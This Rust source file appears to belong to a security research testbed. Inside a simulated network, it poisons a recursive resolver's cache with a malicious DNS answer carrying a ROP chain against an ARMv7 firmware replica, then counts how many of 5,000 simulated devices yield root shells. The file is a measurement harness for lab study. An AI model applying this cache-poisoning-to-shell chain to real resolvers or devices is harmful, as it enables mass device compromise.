//! `poisoned_upstream`: E10 scaled up. One recursive resolver with a
//! bounded cache is poisoned once at t = 0; before each device arrival
//! other tenants push seeded benign lookups over a name pool larger
//! than the cache, so they miss, recurse, insert and evict. The arrival
//! then forks a victim, resolves through the poisoned entry and takes
//! the exploit as a plain cache hit.

use std::net::Ipv4Addr;
use std::time::Instant;

use cml_connman::Resolution;
use cml_core::{derive_seed, Lab};
use cml_dns::{Message, Name, Question, RecordType, Zone, ZoneServer};
use cml_exploit::{ExploitStrategy, MaliciousDnsServer, RopMemcpyChain};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
use cml_netsim::{Internet, RecursiveResolver, SimTime};

use crate::trace::{Layer, Tracer};
use crate::{deliver, Rep};

/// Device arrivals per repetition.
const ARRIVALS: u64 = 5_000;
/// Benign lookups before each arrival.
const NOISE_PER_ARRIVAL: usize = 4;
/// Distinct benign names: eight times the cache, so most lookups miss.
const NAME_POOL: u64 = 8_192;
const CACHE_CAPACITY: usize = 1_024;
/// Event-clock spacing between arrivals (50 ms).
const SPACING: SimTime = 50_000;
/// Benign records live 60 s; at four lookups per 50 ms the cache turns
/// over faster than that, so they are evicted before they expire.
const NOISE_TTL_SECS: u32 = 60;
/// The poison outlives the campaign and every benign record, so the
/// soonest-expiring eviction never picks it: every arrival must fall.
const POISON_TTL_SECS: u32 = 7 * 86_400;

pub struct Upstream {
    seed: u64,
    /// Pre-encoded benign queries, `NOISE_PER_ARRIVAL` per arrival.
    noise: Vec<Vec<u8>>,
}

impl Upstream {
    pub fn new(seed: u64) -> Upstream {
        let mut x = derive_seed(seed, 0x0015E);
        let noise = (0..ARRIVALS as usize * NOISE_PER_ARRIVAL)
            .map(|i| {
                x = derive_seed(x, i as u64);
                let name = Name::parse(&format!("noise{}.vendor.example", x % NAME_POOL))
                    .expect("noise names are valid");
                Message::query((i % 0xFFFF) as u16 + 1, Question::new(name, RecordType::A))
                    .encode()
                    .expect("query encodes")
            })
            .collect();
        Upstream { seed, noise }
    }

    pub fn rep(&self, tr: &mut Tracer) -> Rep {
        let t0 = Instant::now();
        let setup = tr.open(Layer::Setup);
        let mut net = tr.span(Layer::NetsimZone, build_internet);
        let mut resolver = RecursiveResolver::new(self.seed, CACHE_CAPACITY);
        let protections = Protections::full();
        let fw = tr.span(Layer::FirmwareBuild, || {
            Firmware::build(FirmwareKind::OpenElec, Arch::Armv7)
        });
        let mut forge = tr.span(Layer::FirmwareBoot, || fw.forge(protections, self.seed));
        let host = Name::parse("telemetry.vendor.example").expect("static name");
        let lab = Lab::with_firmware(fw).with_protections(protections);
        let target = tr
            .span(Layer::ExploitRecon, || lab.recon())
            .expect("vulnerable replica recon succeeds");
        let mut evil = tr.span(Layer::ExploitBuild, || {
            let payload = RopMemcpyChain::new(Arch::Armv7)
                .build(&target)
                .expect("payload builds against the replica");
            MaliciousDnsServer::new(&payload).expect("payload labelizes")
        });
        let probe = match forge
            .fork(derive_seed(self.seed, 0))
            .resolve(&host, RecordType::A)
        {
            Resolution::Query(q) => q,
            Resolution::Cached(_) => unreachable!("fresh fork has an empty cache"),
        };
        let forged = tr
            .span(Layer::ExploitAnswer, || evil.handle(&probe))
            .expect("server answers the probe");
        assert!(
            resolver.poison(&probe, &forged, POISON_TTL_SECS),
            "the poisoning event sticks"
        );
        tr.close(setup);
        tr.flush();
        let setup_secs = t0.elapsed().as_secs_f64();

        let t1 = Instant::now();
        let mut latencies_ms = Vec::with_capacity(ARRIVALS as usize);
        let mut buf = Vec::new();
        let mut shells = 0u64;
        for (d, noise) in self.noise.chunks(NOISE_PER_ARRIVAL).enumerate() {
            let start = Instant::now();
            let op = tr.open(Layer::Op);
            resolver.advance_to((d as u64 + 1) * SPACING);
            for q in noise {
                query(tr, &mut resolver, &mut net, q, &mut buf);
            }
            let daemon = tr.span(Layer::FirmwareFork, || {
                forge.fork(derive_seed(self.seed, d as u64))
            });
            let query_bytes = match tr.span(Layer::ConnmanResolve, || {
                daemon.resolve(&host, RecordType::A)
            }) {
                Resolution::Query(q) => q,
                Resolution::Cached(_) => unreachable!("fresh fork has an empty cache"),
            };
            if query(tr, &mut resolver, &mut net, &query_bytes, &mut buf)
                && deliver(tr, daemon, &buf).is_root_shell()
            {
                shells += 1;
            }
            tr.close(op);
            latencies_ms.push(start.elapsed().as_secs_f64() * 1e3);
            if d % 1024 == 1023 {
                tr.flush();
            }
        }
        tr.flush();
        let op_secs = t1.elapsed().as_secs_f64();

        let rs = resolver.stats();
        let cs = resolver.cache().stats();
        let trace_bytes = resolver.trace().len() as u64;
        tr.count("netsim.upstream_queries", rs.upstream_queries);
        tr.count("netsim.cache.hits", cs.hits);
        tr.count("netsim.cache.misses", cs.misses);
        tr.count("netsim.cache.inserts", cs.inserts);
        tr.count("netsim.cache.evictions", cs.evictions);
        tr.count("netsim.cache.expirations", cs.expirations);
        tr.count("exploit.exploit_responses", evil.stats().exploit_responses);
        tr.count_max("netsim.trace_bytes", trace_bytes);
        Rep {
            ops: ARRIVALS,
            wrong: ARRIVALS - shells,
            op_secs,
            setup_secs,
            latencies_ms,
            output: format!(
                "arrivals={ARRIVALS} shells={shells} resolver={rs:?} cache={cs:?} \
                 malicious_tx={} trace_bytes={trace_bytes}\n",
                evil.stats().exploit_responses
            ),
            phases: None,
        }
    }
}

/// One client query through the shared resolver, filed as a hit or a
/// miss once the cache counters say which it was.
fn query(
    tr: &mut Tracer,
    resolver: &mut RecursiveResolver,
    net: &mut Internet,
    q: &[u8],
    buf: &mut Vec<u8>,
) -> bool {
    let hits = resolver.cache().stats().hits;
    let id = tr.open(Layer::NetsimQueryMiss);
    let answered = resolver.handle_query_into(net, q, buf);
    let layer = if resolver.cache().stats().hits > hits {
        Layer::NetsimQueryHit
    } else {
        Layer::NetsimQueryMiss
    };
    tr.close_as(id, layer);
    answered
}

/// Root → `example` TLD → authoritative `vendor.example`, which carries
/// the telemetry record and the benign name pool.
fn build_internet() -> Internet {
    let root_addr = Ipv4Addr::new(198, 41, 0, 4);
    let tld_addr = Ipv4Addr::new(192, 5, 6, 30);
    let vendor_addr = Ipv4Addr::new(203, 0, 113, 53);

    let mut root = Zone::rooted("");
    root.ns("example", 172_800, "a.gtld.example")
        .a("a.gtld.example", 172_800, tld_addr);
    let mut tld = Zone::rooted("example");
    tld.ns("vendor.example", 86_400, "ns1.vendor.example").a(
        "ns1.vendor.example",
        86_400,
        vendor_addr,
    );
    let mut vendor = Zone::rooted("vendor.example");
    vendor
        .a(
            "telemetry.vendor.example",
            300,
            Ipv4Addr::new(203, 0, 113, 7),
        )
        .a("ns1.vendor.example", 86_400, vendor_addr);
    for k in 0..NAME_POOL {
        vendor.a(
            &format!("noise{k}.vendor.example"),
            NOISE_TTL_SECS,
            Ipv4Addr::new(203, 0, 114, (k % 250) as u8),
        );
    }
    let mut net = Internet::new(root_addr);
    net.add_server(root_addr, ZoneServer::new(root))
        .add_server(tld_addr, ZoneServer::new(tld))
        .add_server(vendor_addr, ZoneServer::new(vendor));
    net
}
